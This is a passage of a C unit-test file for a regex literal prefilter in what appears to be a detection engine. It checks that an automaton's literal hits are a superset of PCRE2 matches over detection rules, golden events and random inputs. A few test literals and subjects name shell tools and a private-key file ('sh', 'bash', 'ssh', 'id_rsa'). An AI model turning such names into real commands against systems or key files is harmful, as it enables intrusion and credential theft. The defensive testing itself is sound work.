		{ "hidden", 0 }, { "idle", 0 }, { "uid", 0 }, { "id_rsa", 0 },
		{ "ID", 1 }, { "\xc3\xa9id", 1 },    /* non-ASCII neighbour */
		{ "\xe2\x84\xaaid x", 1 },
		{ "i\xc4\xb1" "d", 1 },       /* start unknown: unchecked */
	};
	struct pf_literals lits;
	const struct pf_literals *sets[1];
	struct pf_automaton *a;
	size_t i;

	ck_assert_int_eq(pf_extract("\\bid\\b", 6, &lits), 1);
	sets[0] = &lits;
	a = pf_build(sets, 1);
	ck_assert(a != NULL);
	for (i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		uint64_t hits[1] = { 0 };

		scan_hits(a, cases[i].subject, strlen(cases[i].subject), hits);
		ck_assert_msg((int)(hits[0] & 1) == cases[i].hit,
		    "'%s': hit %d, want %d", cases[i].subject,
		    (int)(hits[0] & 1), cases[i].hit);
	}
	pf_free(a);
	pf_literals_free(&lits);
}
END_TEST

/*
 * The one property the filter must have: whenever PCRE2 matches, the
 * pattern's literal bit is set.  Checked for a pattern on a subject.
 */
static void
assert_superset(const char *pattern, struct pf_automaton *a,
    pcre2_code *code, pcre2_match_data *md, const char *s, size_t n)
{
	uint64_t hits[1] = { 0 };

	if (pcre2_match(code, (PCRE2_SPTR)s, n, 0, 0, md, NULL) < 0)
		return;
	scan_hits(a, s, n, hits);
	ck_assert_msg(hits[0] & 1, "/%s/ matches '%.*s' but its literals "
	    "were not seen", pattern, (int)n, s);
}

static pcre2_code *
compile(const char *pattern)
{
	PCRE2_SIZE off;
	int err;
	pcre2_code *code;

	code = pcre2_compile((PCRE2_SPTR)pattern, PCRE2_ZERO_TERMINATED,
	    PCRE2_UTF | PCRE2_UCP, &err, &off, NULL);
	if (code != NULL)
		(void)pcre2_jit_compile(code, PCRE2_JIT_COMPLETE);
	return code;
}

/* Every string in a golden event, also upper-cased and with s/k folds. */
static void
superset_on_golden(const char *pattern, struct pf_literals *lits,
    char **lines, size_t nlines)
{
	const struct pf_literals *sets[1] = { lits };
	struct pf_automaton *a = pf_build(sets, 1);
	pcre2_code *code = compile(pattern);
	pcre2_match_data *md = pcre2_match_data_create(1, NULL);
	size_t i, j;

	ck_assert(a != NULL && code != NULL && md != NULL);
	for (i = 0; i < nlines; i++) {
		size_t n = strlen(lines[i]);
		char *v = malloc(3 * n + 1), *o;

		ck_assert(v != NULL);
		assert_superset(pattern, a, code, md, lines[i], n);
		for (j = 0; j <= n; j++)
			v[j] = (char)(lines[i][j] >= 'a' && lines[i][j] <= 'z' ?
			    lines[i][j] - 32 : lines[i][j]);
		assert_superset(pattern, a, code, md, v, n);
		for (o = v, j = 0; j < n; j++) {
			if (lines[i][j] == 's') {
				*o++ = '\xc5';
				*o++ = '\xbf';
			} else if (lines[i][j] == 'k') {
				*o++ = '\xe2';
				*o++ = '\x84';
				*o++ = '\xaa';
			} else
				*o++ = lines[i][j];
		}
		*o = '\0';
		assert_superset(pattern, a, code, md, v, strlen(v));
		free(v);
	}
	pcre2_match_data_free(md);
	pcre2_code_free(code);
	pf_free(a);
}

struct strings {
	char **v;
	size_t n, cap;
};

static int
collect_strings(void *ud, const char *key, const ttpd_value *val)
{
	struct strings *s = ud;
	const char *str;
	size_t len;

	(void)key;
	if (jv_get_string(val, &str, &len) != TTPD_OK ||
	    memchr(str, '\0', len) != NULL)
		return 0;
	if (s->n == s->cap) {
		s->cap = s->cap ? s->cap * 2 : 1024;
		s->v = realloc(s->v, s->cap * sizeof *s->v);
		ck_assert(s->v != NULL);
	}
	s->v[s->n++] = strndup(str, len);
	return 0;
}

static void
golden_strings(struct strings *s)
{
	char *path, *text, *line, *save = NULL;

	ck_assert(asprintf(&path, "%s/golden/events.jsonl",
	    tu_env("TTPD_SHARED_DIR")) > 0);
	text = tu_read_file(path, NULL);
	ck_assert_msg(text != NULL, "cannot read %s", path);
	for (line = strtok_r(text, "\n", &save); line != NULL;
	    line = strtok_r(NULL, "\n", &save)) {
		char err[256];
		ttpd_value *ev = jv_parse(line, strlen(line), err, sizeof err);

		ck_assert(ev != NULL);
		jv_object_foreach(jv_object_get(ev, "payload"),
		    collect_strings, s);
		jv_decref(ev);
	}
	free(text);
	free(path);
}

static int
collect_patterns(void *ud, const char *key, const ttpd_value *val)
{
	struct strings *s = ud;
	size_t i;

	if (strcmp(key, "pattern") == 0)
		return collect_strings(ud, key, val);
	if (jv_type(val) == TTPD_VT_ARRAY)
		for (i = 0; i < jv_array_size(val); i++)
			collect_strings(s, key, jv_array_get(val, i));
	return 0;
}

/* DECNET's engine patterns and its lifter-side YAML regexes. */
START_TEST(test_pf_superset_decnet)
{
	struct fx fx;
	struct strings pats = { NULL, 0, 0 }, lines = { NULL, 0, 0 };
	size_t i, filtered = 0;

	fx_open(&fx, NULL);
	fx_load_decnet(&fx);
	for (i = 0; i < fx.rules.n; i++)
		jv_object_foreach(fx.rules.v[i]->pub.match, collect_patterns,
		    &pats);
	fx_close(&fx);
	ck_assert_int_ge((int)pats.n, 23 + 16);
	golden_strings(&lines);
	ck_assert_int_gt((int)lines.n, 4000);
	for (i = 0; i < pats.n; i++) {
		struct pf_literals lits;
		int rc = pf_extract(pats.v[i], strlen(pats.v[i]), &lits);

		ck_assert_int_ge(rc, 0);
		if (rc == 1) {
			filtered++;
			superset_on_golden(pats.v[i], &lits, lines.v,
			    lines.n);
		}
		pf_literals_free(&lits);
		free(pats.v[i]);
	}
	/* every shipped regex is simple enough to filter */
	ck_assert_int_eq((int)filtered, (int)pats.n);
	for (i = 0; i < lines.n; i++)
		free(lines.v[i]);
	free(lines.v);
	free(pats.v);
}
END_TEST

/* Deterministic generator (xorshift) for the random differential test. */
static uint64_t rng_state = 0x9e3779b97f4a7c15u;

static unsigned
rnd(unsigned n)
{
	rng_state ^= rng_state << 13;
	rng_state ^= rng_state >> 7;
	rng_state ^= rng_state << 17;
	return (unsigned)(rng_state % n);
}

/*
 * An automaton too big for 16-bit transitions (more than 32,767 states)
 * keeps 32-bit ones: its scans agree with strstr() over the literals.
 */
START_TEST(test_pf_wide_automaton)
{
	enum { NLITS = 8000, LEN = 8, NSETS = 64 };
	static char text[NLITS][LEN + 1];
	static char *v[NSETS][NLITS / NSETS + 1];
	struct pf_literals lits[NSETS];
	const struct pf_literals *sets[NSETS];
	struct pf_automaton *a;
	size_t i, k;
	int s;

	memset(lits, 0, sizeof lits);
	for (i = 0; i < NLITS; i++) {
		for (k = 0; k < LEN; k++)
			text[i][k] = (char)('a' + rnd(20));
		text[i][LEN] = '\0';
		v[i % NSETS][lits[i % NSETS].n++] = text[i];
	}
	for (i = 0; i < NSETS; i++) {
		lits[i].v = v[i];
		sets[i] = &lits[i];
	}
	a = pf_build(sets, NSETS);
	ck_assert(a != NULL);
	for (s = 0; s < 200; s++) {
		char subject[64] = "";
		uint64_t hits = 0, want = 0;

		/* pieces of literals, so that some occur whole */
		while (strlen(subject) + LEN < sizeof subject) {
			const char *piece = text[rnd(NLITS)];

			strncat(subject, piece + (s % 2 ? 0 : rnd(LEN)),
			    LEN);
		}
		for (i = 0; i < NLITS; i++)
			if (strstr(subject, text[i]) != NULL)
				want |= UINT64_C(1) << (i % NSETS);
		scan_hits(a, subject, strlen(subject), &hits);
		ck_assert_msg(hits == want, "'%s': hits %016llx, want %016llx",
		    subject, (unsigned long long)hits,
		    (unsigned long long)want);
	}
	pf_free(a);
}
END_TEST

static void
gen_regex(char *out, size_t cap, int depth)
{
	static const char *const atoms[] = {
		"a", "b", "c", "A", "B", "-", ".", "\\s", "\\w", "\\b", "\\d",
		"[ab]", "[^a]", "^", "$", "\\.", "k", "s", "(?i)", "\\B",
	};
	static const char *const quants[] = {
		"", "", "", "*", "+", "?", "{2}", "{0,2}", "{1,}", "*?", "++",
	};
	int items = 1 + (int)rnd(4), i;

	for (i = 0; i < items; i++) {
		size_t len = strlen(out);

		if (len + 64 > cap)
			return;
		if (depth < 3 && rnd(5) == 0) {
			static const char *const opens[] = {
				"(", "(?:", "(?=", "(?!", "(?i:", "(?<=",
			};
			const char *open = opens[rnd(6)];

			strcat(out, open);
			gen_regex(out, cap, depth + 1);
			if (rnd(2) && strlen(out) + 64 < cap) {
				strcat(out, "|");
				gen_regex(out, cap, depth + 1);
			}
			strcat(out, ")");
		} else
			strcat(out, atoms[rnd(sizeof atoms / sizeof atoms[0])]);
		strcat(out, quants[rnd(sizeof quants / sizeof quants[0])]);
	}
	if (depth == 0 && rnd(3) == 0 && strlen(out) + 64 < cap) {
		strcat(out, "|");
		gen_regex(out, cap, depth + 1);
	}
}

/* Subjects of the random prefilter tests: ASCII that the generated
 * patterns use, and characters that fold to ASCII letters. */
static const char *const pf_alphabet[] = {
	"a", "b", "c", "A", "B", "C", "k", "K", "s", "S", "-", ".",
	" ", "\n", "1", "\xc5\xbf", "\xe2\x84\xaa", "\xc3\xa9",
};
#define PF_ALPHABET_N (sizeof pf_alphabet / sizeof pf_alphabet[0])

/* Append the literal sets of every clause of cl to sets (at most cap). */
static size_t
append_clause_sets(const struct pf_clauses *cl,
    const struct pf_literals **sets, size_t nsets, size_t cap)
{
	size_t i, k;

	for (i = 0; i < cl->n; i++)
		for (k = 0; k < cl->v[i].nf; k++)
			if (nsets < cap)
				sets[nsets++] = &cl->v[i].f[k];
	return nsets;
}

/* out = len random picks of alphabet (out must have room). */
static void
random_subject(char *out, const char *const *alphabet, size_t nalpha,
    int len)
{
	int j;

	out[0] = '\0';
	for (j = 0; j < len; j++)
		strcat(out, alphabet[rnd(nalpha)]);
}

START_TEST(test_pf_superset_random)
{
	pcre2_match_data *md = pcre2_match_data_create(1, NULL);
	int p, s, tried = 0, filtered = 0;

	ck_assert(md != NULL);
	for (p = 0; p < 6000; p++) {
		char pattern[512] = "";
		struct pf_literals lits;
		const struct pf_literals *sets[1];
		struct pf_automaton *a;
		pcre2_code *code;
		int rc;

		gen_regex(pattern, sizeof pattern, 0);
		if ((code = compile(pattern)) == NULL)
			continue;
		tried++;
		rc = pf_extract(pattern, strlen(pattern), &lits);
		ck_assert_int_ge(rc, 0);
		if (rc == 0) {
			pcre2_code_free(code);
			continue;
		}
		filtered++;
		sets[0] = &lits;
		/* odd patterns: only the root has a full row */
		a = p % 2 ? pf_build(sets, 1) : pf_build_dense(sets, 1, 1);
		ck_assert(a != NULL);
		for (s = 0; s < 300; s++) {
			char subject[128];

			random_subject(subject, pf_alphabet, PF_ALPHABET_N,
			    (int)rnd(12));
			assert_superset(pattern, a, code, md, subject,
			    strlen(subject));
		}
		pf_free(a);
		pf_literals_free(&lits);
		pcre2_code_free(code);
	}
	/* the generator must exercise both outcomes */
	ck_assert_int_gt(tried, 2000);
	ck_assert_int_gt(filtered, 500);
	ck_assert_int_lt(filtered, tried);
	pcre2_match_data_free(md);
}
END_TEST

/*
 * The scan folds U+017F, U+212A, U+0130 and U+0131 to ASCII letters: with
 * the linked PCRE2, no other non-ASCII character may match an ASCII
 * character caselessly.
 */
START_TEST(test_pf_fold_table_complete)
{
	pcre2_code *code = compile("(?i)^[\\x{1}-\\x{7f}]$");
	pcre2_match_data *md = pcre2_match_data_create(1, NULL);
	uint32_t cp;

	ck_assert(code != NULL && md != NULL);
	for (cp = 0x80; cp < 0x110000; cp++) {
		unsigned char b[4];
		size_t n;

		if (cp >= 0xd800 && cp <= 0xdfff)
			continue;
		if (cp < 0x800) {
			b[0] = (unsigned char)(0xc0 | cp >> 6);
			b[1] = (unsigned char)(0x80 | (cp & 0x3f));
			n = 2;
		} else if (cp < 0x10000) {
			b[0] = (unsigned char)(0xe0 | cp >> 12);
			b[1] = (unsigned char)(0x80 | ((cp >> 6) & 0x3f));
			b[2] = (unsigned char)(0x80 | (cp & 0x3f));
			n = 3;
		} else {
			b[0] = (unsigned char)(0xf0 | cp >> 18);
			b[1] = (unsigned char)(0x80 | ((cp >> 12) & 0x3f));
			b[2] = (unsigned char)(0x80 | ((cp >> 6) & 0x3f));
			b[3] = (unsigned char)(0x80 | (cp & 0x3f));
			n = 4;
		}
		if (pcre2_match(code, b, n, 0, 0, md, NULL) >= 0)
			ck_assert_msg(cp == 0x17f || cp == 0x212a ||
			    cp == 0x130 || cp == 0x131,
			    "U+%04X matches an ASCII character caselessly",
			    (unsigned)cp);
	}
	pcre2_match_data_free(md);
	pcre2_code_free(code);
}
END_TEST

/* The clauses' property: whenever PCRE2 matches, some clause has a
 * literal of each of its sets. */
static int
clause_holds(const struct pf_clauses *c, const uint64_t *hits)
{
	size_t i, k, j = 0;

	for (i = 0; i < c->n; i++) {
		int all = 1;

		for (k = 0; k < c->v[i].nf; k++, j++)
			if (!(hits[j >> 6] & UINT64_C(1) << (j & 63)))
				all = 0;
		if (all)
			return 1;
	}
	return 0;
}

START_TEST(test_pf_clauses_random)
{
	pcre2_match_data *md = pcre2_match_data_create(1, NULL);
	int p, s, tried = 0, refined = 0;

	ck_assert(md != NULL);
	for (p = 0; p < 6000; p++) {
		char pattern[512] = "";
		struct pf_clauses cl;
		const struct pf_literals *sets[64];
		struct pf_automaton *a;
		pcre2_code *code;
		size_t nsets;
		int rc;

		gen_regex(pattern, sizeof pattern, 0);
		if ((code = compile(pattern)) == NULL)
			continue;
		rc = pf_extract_clauses(pattern, strlen(pattern), &cl);
		ck_assert_int_ge(rc, 0);
		if (rc == 0) {
			pcre2_code_free(code);
			continue;
		}
		tried++;
		nsets = append_clause_sets(&cl, sets, 0, 64);
		ck_assert_uint_lt(nsets, 64);
		if (nsets > 1)
			refined++;
		a = p % 2 ? pf_build(sets, nsets) :
		    pf_build_dense(sets, nsets, 1);
		ck_assert(a != NULL);
		for (s = 0; s < 300; s++) {
			char subject[128];
			uint64_t hits[1] = { 0 };

			random_subject(subject, pf_alphabet, PF_ALPHABET_N,
			    (int)rnd(12));
			if (pcre2_match(code, (PCRE2_SPTR)subject,
			    strlen(subject), 0, 0, md, NULL) < 0)
				continue;
			scan_hits(a, subject, strlen(subject), hits);
			ck_assert_msg(clause_holds(&cl, hits), "/%s/ matches "
			    "'%s' but no clause holds", pattern, subject);
		}
		pf_free(a);
		pf_clauses_free(&cl);
		pcre2_code_free(code);
	}
	ck_assert_int_gt(tried, 500);
	ck_assert_int_gt(refined, 100);
	pcre2_match_data_free(md);
}
END_TEST

/*
 * scan_bounds(): no match starts at or after the end of the last counted
 * occurrence of a required literal (the engine's search offset limit).
 * Every anchored match start of random patterns over random subjects with
 * many, overlapping and multi-byte (folded) literal occurrences, checked
 * against the one set and against some clause that holds.
 */
/*
 * A random pattern that compiles and has literals, with its clauses and
 * an automaton over its set (id 0) and its clauses' sets (ids 1 on);
 * NULL (nothing to free) when the pattern does not qualify.  Every
 * pattern pf_extract() takes, pf_extract_clauses() takes too.
 */
static struct pf_automaton *
random_case(char *pattern, size_t cap, int p, pcre2_code **code,
    struct pf_literals *lits, struct pf_clauses *cl,
    const struct pf_literals **sets, size_t *nsets)
{
	struct pf_automaton *a;
	int rc;

	gen_regex(pattern, cap, 0);
	if ((*code = compile(pattern)) == NULL)
		return NULL;
	rc = pf_extract(pattern, strlen(pattern), lits);
	ck_assert_int_ge(rc, 0);
	if (rc == 0) {
		pcre2_code_free(*code);
		return NULL;
	}
	ck_assert_int_eq(pf_extract_clauses(pattern, strlen(pattern), cl), 1);
	sets[0] = lits;
	*nsets = append_clause_sets(cl, sets, 1, 65);
	ck_assert_uint_lt(*nsets, 65);
	a = p % 2 ? pf_build(sets, *nsets) : pf_build_dense(sets, *nsets, 1);
	ck_assert(a != NULL);
	return a;
}

START_TEST(test_pf_last_random)
{
	static const char *const alphabet[] = {
		"a", "b", "c", "A", "B", "C", "k", "K", "s", "S", "-", ".",
		" ", "\n", "1", "ab", "abab", "\xc5\xbf", "\xe2\x84\xaa",
		"\xc3\xa9",
	};
	pcre2_match_data *md = pcre2_match_data_create(1, NULL);
	int p, s, tried = 0, starts = 0;

	ck_assert(md != NULL);
	for (p = 0; p < 1500; p++) {
		char pattern[512] = "";
		struct pf_literals lits;
		struct pf_clauses cl;
		const struct pf_literals *sets[65];
		size_t nsets = 1, i, k, j;
		struct pf_automaton *a;
		pcre2_code *code;

		a = random_case(pattern, sizeof pattern, p, &code, &lits, &cl,
		    sets, &nsets);
		if (a == NULL)
			continue;
		tried++;
		for (s = 0; s < 100; s++) {
			char subject[256];
			uint64_t hits[2] = { 0, 0 };
			size_t last[128], n, at;

			random_subject(subject, alphabet, sizeof alphabet /
			    sizeof alphabet[0], (int)rnd(s % 2 ? 40 : 12));
			n = strlen(subject);
			scan_bounds(a, subject, n, hits, NULL, last);
			for (at = 0; at <= n; at++) {
				size_t reach = 0;

				if (at < n && (subject[at] & 0xc0) == 0x80)
					continue;       /* inside a character */
				if (pcre2_match(code, (PCRE2_SPTR)subject, n,
				    at, PCRE2_ANCHORED, md, NULL) < 0)
					continue;
				starts++;
				ck_assert_msg(hits[0] & 1 && at < last[0],
				    "/%s/ matches '%s' at %zu, last %zu",
				    pattern, subject, at, hits[0] & 1 ?
				    last[0] : 0);
				/* some clause holds and reaches past it */
				for (i = 0, j = 1; i < cl.n; i++) {
					size_t lim = (size_t)-1;
					int holds = 1;

					for (k = 0; k < cl.v[i].nf; k++, j++) {
						if (!(hits[j >> 6] &
						    UINT64_C(1) << (j & 63)))
							holds = 0;
						else if (last[j] < lim)
							lim = last[j];
					}
					if (holds && lim > reach)
						reach = lim;
				}
				ck_assert_msg(at < reach, "/%s/ matches '%s' "
				    "at %zu, clauses reach %zu", pattern,
				    subject, at, reach);
			}
		}
		pf_free(a);
		pf_clauses_free(&cl);
		pf_literals_free(&lits);
		pcre2_code_free(code);
	}
	ck_assert_int_gt(tried, 200);
	ck_assert_int_gt(starts, 10000);
	pcre2_match_data_free(md);
}
END_TEST

/*
 * A literal that ends a longer one it is a suffix of ("sh" in "bash"):
 * with PF_LB it counts only when the character before it is not an ASCII
 * word character, which for s, k and i may be a non-ASCII one that folds
 * to them.  First and last occurrences per set, over a state's groups.
 */
START_TEST(test_pf_scan_suffixes)
{
	static const struct {
		const char *subject;
		int sh, bash;
		size_t first, last;     /* of \bsh\b, when it hits */
	} cases[] = {
		{ "bash x", 0, 1, 0, 0 },
		{ "ssh x", 0, 0, 0, 0 },
		{ "\xc5\xbfsh x", 1, 0, 4, 4 },       /* U+017F s h */
		{ "x sh", 1, 0, 4, 4 },
		{ "sh; bash; ba sh; zsh", 1, 1, 2, 15 },
		{ "BASH; Sh", 1, 1, 8, 8 },
	};
	const char *patterns[] = { "\\bsh\\b", "bash", "ssh" };
	struct pf_literals lits[3];
	const struct pf_literals *sets[3];
	size_t i, d;

	for (i = 0; i < 3; i++) {
		ck_assert_int_eq(pf_extract(patterns[i], strlen(patterns[i]),
		    &lits[i]), 1);
		sets[i] = &lits[i];
	}
	for (d = 0; d < 2; d++) {
		struct pf_automaton *a = d ? pf_build(sets, 3) :
		    pf_build_dense(sets, 3, 1);

		ck_assert(a != NULL);
		for (i = 0; i < sizeof cases / sizeof cases[0]; i++) {
			uint64_t hits[1] = { 0 };
			size_t first[64], last[64];

			scan_bounds(a, cases[i].subject,
			    strlen(cases[i].subject), hits, first, last);
			ck_assert_msg((int)(hits[0] & 1) == cases[i].sh &&
			    (int)(hits[0] >> 1 & 1) == cases[i].bash,
			    "'%s': hits %d", cases[i].subject, (int)hits[0]);
			if (!cases[i].sh)
				continue;
			ck_assert_uint_eq(first[0], cases[i].first);
			ck_assert_uint_eq(last[0], cases[i].last);
		}
		pf_free(a);
	}
	for (i = 0; i < 3; i++)
		pf_literals_free(&lits[i]);
}
END_TEST

/*
 * A naive scan, for the differential test below: the character at s[i]
 * folded to lower-case ASCII (U+017F, U+212A, U+0130, U+0131 to s, k, i),
 * or -1 for another non-ASCII one; *len its bytes.
 */
static int
naive_char(const unsigned char *s, size_t n, size_t i, size_t *len)
{
	if (s[i] < 0x80) {
		*len = 1;
		return s[i] >= 'A' && s[i] <= 'Z' ? s[i] - 'A' + 'a' : s[i];
	}
	*len = s[i] < 0xe0 ? 2 : s[i] < 0xf0 ? 3 : 4;
	ck_assert_uint_le(i + *len, n);
	if (s[i] == 0xc5 && s[i + 1] == 0xbf)
		return 's';
	if (s[i] == 0xe2 && s[i + 1] == 0x84 && s[i + 2] == 0xaa)
		return 'k';
	if (s[i] == 0xc4 && (s[i + 1] == 0xb0 || s[i + 1] == 0xb1))
		return 'i';
	return -1;
}

static int
naive_word(unsigned char c)
{
	return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') ||
	    (c >= '0' && c <= '9') || c == '_';
}

/* What naive_scan() finds of one set. */
struct naive_hit {
	int hit;
	size_t first, last;
};

static void
naive_note(struct naive_hit *h, size_t end)
{
	if (!h->hit || end < h->first)
		h->first = end;
	if (!h->hit || end > h->last)
		h->last = end;
	h->hit = 1;
}

/*
 * Every literal occurrence that counts, found by trying every literal at
 * every character: PF_LB without an ASCII word character just before
 * it, PF_RB without one just after it.  An occurrence with a folded
 * character has no known start in the scan, which may count it
 * whatever comes before: `strict` has the occurrences that must count,
 * `loose` also those that may.
 */
static void
naive_scan(const struct pf_literals *const *sets, size_t nsets,
    const unsigned char *s, size_t n, struct naive_hit *strict,
    struct naive_hit *loose)
{
	size_t i, j, at, len;

	memset(strict, 0, nsets * sizeof *strict);
	memset(loose, 0, nsets * sizeof *loose);
	for (at = 0; at < n; at += len) {
		naive_char(s, n, at, &len);
		for (i = 0; i < nsets; i++)
			for (j = 0; j < sets[i]->n; j++) {
				const char *lit = sets[i]->v[j];
				unsigned flags = sets[i]->flags[j];
				size_t q = at, clen;
				int ascii = 1, word_before;

				for (; *lit != '\0' && q < n; lit++, q += clen) {
					if (naive_char(s, n, q, &clen) != *lit)
						break;
					ascii &= s[q] < 0x80;
				}
				if (*lit != '\0')
					continue;
				if (flags & PF_RB && q < n && naive_word(s[q]))
					continue;
				word_before = flags & PF_LB && at > 0 &&
				    naive_word(s[at - 1]);
				if (!word_before)
					naive_note(&strict[i], q);
				if (!word_before || !ascii)
					naive_note(&loose[i], q);
			}
	}
}

/*
 * scan_bounds() against naive_scan() over random literal sets (short
 * literals with boundary flags, sharing suffixes) and random subjects
 * of mixed case, folded and other non-ASCII characters or none, long
 * enough to cross the blocks a scan of a full-row automaton works in
 * (and to be cut in two chains): the same hits, first and last ends
 * (between the strict and the loose ones where they differ), with full
 * rows (pf_build()) and with sparse states (pf_build_dense() with no
 * room).
 */
START_TEST(test_pf_naive_random)
{
	static const char lit_chars[] = "abcksi_1-. /;";
	static const char *const alphabet[] = {
		"a", "b", "c", "k", "s", "i", "A", "B", "C", "K", "S", "I",
		"_", "1", "-", ".", " ", "/", ";", "x", "sk", "ab;",
		/* the ASCII ones above, for subjects of long ASCII runs */
		"\xc5\xbf", "\xe2\x84\xaa", "\xc4\xb0", "\xc4\xb1",
		"\xc3\xa9", "\xe3\x80\x80", "\xf0\x9f\x98\x80",
	};
	enum { MAX_SETS = 80, MAX_LITS = 4, MAX_LEN = 8, N_ASCII = 22 };
	static char text[MAX_SETS][MAX_LITS][MAX_LEN + 1];
	static char *v[MAX_SETS][MAX_LITS];
	static unsigned char flags[MAX_SETS][MAX_LITS];
	struct pf_literals lits[MAX_SETS];
	const struct pf_literals *sets[MAX_SETS];
	int round, subj, d, compared = 0, exact = 0;

	for (round = 0; round < 60; round++) {
		size_t nsets = 1 + rnd(MAX_SETS), i, j, k;

		for (i = 0; i < nsets; i++) {
			lits[i].n = 1 + rnd(MAX_LITS);
			lits[i].v = v[i];
			lits[i].flags = flags[i];
			lits[i].reach = PF_NO_REACH;
			for (j = 0; j < lits[i].n; j++) {
				size_t len = 1 + rnd(round % 3 ? 3 : MAX_LEN);

				for (k = 0; k < len; k++)
					text[i][j][k] = lit_chars[rnd(
					    sizeof lit_chars - 1)];
				text[i][j][len] = '\0';
				v[i][j] = text[i][j];
				flags[i][j] = (unsigned char)rnd(4);
			}
			sets[i] = &lits[i];
		}
		for (d = 0; d < 2; d++) {
			struct pf_automaton *a = d ? pf_build(sets, nsets) :
			    pf_build_dense(sets, nsets, 1);

			ck_assert(a != NULL);
			for (subj = 0; subj < 40; subj++) {
				char subject[2048];
				uint64_t hits[2] = { 0, 0 };
				size_t first[128], last[128], n;
				struct naive_hit strict[MAX_SETS];
				struct naive_hit loose[MAX_SETS];

				random_subject(subject, alphabet, subj % 3 ?
				    sizeof alphabet / sizeof alphabet[0] :
				    N_ASCII, (int)rnd(subj % 4 ? 40 : 300));
				/* or the sets' literals end to end, so that long
				 * ones span where a scan cuts its blocks */
				if (subj % 5 == 4)
					subject[0] = '\0';
				while (subj % 5 == 4 && strlen(subject) < 400) {
					i = rnd((unsigned)nsets);
					strcat(subject, v[i][rnd((unsigned)
					    lits[i].n)]);
				}
				n = strlen(subject);
				naive_scan(sets, nsets,
				    (const unsigned char *)subject, n, strict,
				    loose);
				scan_bounds(a, subject, n, hits, first, last);
				for (i = 0; i < nsets; i++) {
					const struct naive_hit *m = &strict[i];
					const struct naive_hit *l = &loose[i];
					int hit = (int)(hits[i >> 6] >>
					    (i & 63) & 1);

					ck_assert_msg(hit >= m->hit &&
					    hit <= l->hit, "round %d '%s' set "
					    "%zu: hit %d, want %d..%d", round,
					    subject, i, hit, m->hit, l->hit);
					if (!hit)
						continue;
					ck_assert_msg(first[i] >= l->first &&
					    (!m->hit || first[i] <= m->first) &&
					    last[i] <= l->last &&
					    (!m->hit || last[i] >= m->last),
					    "round %d '%s' set %zu: first %zu "
					    "last %zu", round, subject, i,
					    first[i], last[i]);
					if (m->hit && m->first == l->first &&
					    m->last == l->last) {
						ck_assert_uint_eq(first[i],
						    m->first);
						ck_assert_uint_eq(last[i],
						    m->last);
						exact++;
					}
				}
				compared++;
			}
			pf_free(a);
		}
	}
	ck_assert_int_eq(compared, 60 * 2 * 40);
	ck_assert_int_gt(exact, 10000);
}
END_TEST

/*
 * The earliest start of a match that scan_bounds() and the sets' reach
 * allow: for the one set, and the least over the clauses that hold of
 * the latest their sets allow (as the engine computes it).
 */
static size_t
set_start_bound(const struct pf_literals *lits, size_t first)
{
	return lits->reach == PF_NO_REACH || first <= lits->reach ? 0 :
	    first - lits->reach;
}

/*
 * scan_bounds() and reach: no match starts before the end of the first
 * counted occurrence of a set minus the set's reach.  Every anchored
 * match start of random patterns over random subjects with multi-byte
 * characters (folded letters, a 3-byte \s, a 4-byte character), and a
 * search from the bound (stepped back to a character) finds a match iff
 * one from 0 does.
 */
START_TEST(test_pf_first_random)
{
	static const char *const alphabet[] = {
		"a", "b", "c", "A", "B", "C", "k", "K", "s", "S", "-", ".",
		" ", "\n", "1", "ab", "abab", "\xc5\xbf", "\xe2\x84\xaa",
		"\xc3\xa9", "\xe3\x80\x80", "\xf0\x9f\x98\x80",
	};
	pcre2_match_data *md = pcre2_match_data_create(1, NULL);
	int p, s, tried = 0, starts = 0, bounded = 0, searched = 0;

	ck_assert(md != NULL);
	for (p = 0; p < 1500; p++) {
		char pattern[512] = "";
		struct pf_literals lits;
		struct pf_clauses cl;
		const struct pf_literals *sets[65];
		size_t nsets = 1, i, k, j;
		struct pf_automaton *a;
		pcre2_code *code;

		a = random_case(pattern, sizeof pattern, p, &code, &lits, &cl,
		    sets, &nsets);
		if (a == NULL)
			continue;
		tried++;
		for (s = 0; s < 100; s++) {
			char subject[512];
			uint64_t hits[2] = { 0, 0 };
			size_t first[128], n, at, bound, from;
			size_t clause_bound = (size_t)-1;
			int from0, fromb;

			random_subject(subject, alphabet, sizeof alphabet /
			    sizeof alphabet[0], (int)rnd(s % 2 ? 60 : 12));
			n = strlen(subject);
			scan_bounds(a, subject, n, hits, first, NULL);
			if (!(hits[0] & 1))
				continue;
			bound = set_start_bound(&lits, first[0]);
			for (i = 0, j = 1; i < cl.n; i++) {
				size_t b = 0;
				int holds = 1;

				for (k = 0; k < cl.v[i].nf; k++, j++) {
					if (!(hits[j >> 6] &
					    UINT64_C(1) << (j & 63)))
						holds = 0;
					else if (set_start_bound(&cl.v[i].f[k],
					    first[j]) > b)
						b = set_start_bound(
						    &cl.v[i].f[k], first[j]);
				}
				if (holds && b < clause_bound)
					clause_bound = b;
			}
			if (clause_bound != (size_t)-1 &&
			    clause_bound > bound)
				bound = clause_bound;
			bounded += bound > 0;
			for (at = 0; at <= n; at++) {
				if (at < n && (subject[at] & 0xc0) == 0x80)
					continue;       /* inside a character */
				if (pcre2_match(code, (PCRE2_SPTR)subject, n,
				    at, PCRE2_ANCHORED, md, NULL) < 0)
					continue;
				starts++;
				ck_assert_msg(at >= bound, "/%s/ matches '%s' "
				    "at %zu, before the bound %zu", pattern,
				    subject, at, bound);
			}
			for (from = bound; from > 0 && from < n &&
			    (subject[from] & 0xc0) == 0x80; from--)
				;
			from0 = pcre2_match(code, (PCRE2_SPTR)subject, n, 0,
			    0, md, NULL) >= 0;
			fromb = pcre2_match(code, (PCRE2_SPTR)subject, n,
			    from, 0, md, NULL) >= 0;
			ck_assert_msg(from0 == fromb, "/%s/ on '%s': %d from "
			    "0, %d from %zu", pattern, subject, from0, fromb,
			    from);
			searched++;
		}
		pf_free(a);
		pf_clauses_free(&cl);
		pf_literals_free(&lits);
		pcre2_code_free(code);
	}
	ck_assert_int_gt(tried, 200);
	ck_assert_int_gt(starts, 10000);
	ck_assert_int_gt(bounded, 1000);
	ck_assert_int_gt(searched, 10000);
	pcre2_match_data_free(md);
}
END_TEST

/* The reach of the set pf_extract() finds, or of clause 0's set k. */
static size_t
reach_of(const char *pattern, int clause_set)
{
	struct pf_literals lits;
	struct pf_clauses cl;
	size_t reach;

	if (clause_set < 0) {
		ck_assert_int_eq(pf_extract(pattern, strlen(pattern), &lits),
		    1);
		reach = lits.reach;
		pf_literals_free(&lits);
		return reach;
	}
